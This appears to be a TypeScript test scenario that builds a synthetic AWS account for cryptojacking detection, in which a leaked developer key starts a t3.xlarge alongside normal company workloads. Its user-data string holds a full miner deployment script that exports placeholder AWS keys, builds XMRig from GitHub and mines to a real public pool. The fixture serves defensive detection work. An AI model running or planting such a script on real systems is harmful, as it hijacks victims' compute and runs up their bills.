/**
 * scenarios/userdata-xmrig-t3: one developer's key, found in a public npm package, starts a single
 * t3.xlarge in the home region with XMRig in its user data. One small instance, a familiar family,
 * the usual region: only the user data and the CPU give it away.
 * Run: npx tsx scripts/scenarios/userdata-xmrig-t3.ts [--ids]
 */
import {
  type AccountSpec,
  buildAccount,
  isMain,
  ordinaryCompany,
  pinned,
  poolTrickle,
  walletAddress,
  writeScenario,
} from "./account-builder.js";

const HOME = "ap-southeast-2";

const USER_DATA = [
  "#!/bin/bash",
  "export AWS_ACCESS_KEY_ID=AKIA5SCENARIOXMRIGT3Q",
  "export AWS_SECRET_ACCESS_KEY=p9Xv2LmQ7rT4nB8wZ1cF6hJ3kD5sG0aE2uY7iOtq",
  "yum install -y -q git cmake3 gcc-c++ libuv-devel openssl-devel hwloc-devel",
  "git clone -q https://github.com/xmrig/xmrig.git /usr/local/src/xmrig && cd /usr/local/src/xmrig && mkdir build && cd build",
  "cmake3 .. -DWITH_HWLOC=ON && make -j$(nproc)",
  `./xmrig -o stratum+ssl://pool.hashvault.pro:443 -u ${walletAddress("t3-wallet")} -p t3 --donate-level 1 -B`,
  "",
].join("\n");

export const spec: AccountSpec = {
  scenario: "userdata-xmrig-t3",
  description: "A single t3.xlarge in the home region with XMRig built from source in its user data",
  accountId: "527364819025",
  windowEnd: "2026-11-25T00:00:00.000Z",
  homeRegions: [HOME],
  workloads: [
    ...ordinaryCompany({
      region: HOME,
      prefix: "koala",
      utcOffsetHours: 11,
      webServers: 2,
      since: "2026-06-08T00:40:00Z",
    }),
    {
      name: "dev-box-xmrig",
      image: "amzn2-ap-southeast-2",
      region: HOME,
      instanceType: "t3.xlarge",
      launchTime: "2026-11-24T15:22:47.000Z",
      publicIpPrefixes: ["3.104", "54.79"],
      userData: USER_DATA,
      // Unlimited credits (the T3 default): the CPU stays pinned and the surplus is billed.
      cpu: (ms, rng) => (ms < Date.parse("2026-11-24T16:00:00Z") ? 60 : pinned(ms, rng)),
      networkOut: poolTrickle,
      packetBytes: 170,
    },
  ],
};

export const build = () => buildAccount(spec);
if (isMain(import.meta.url)) writeScenario(spec);
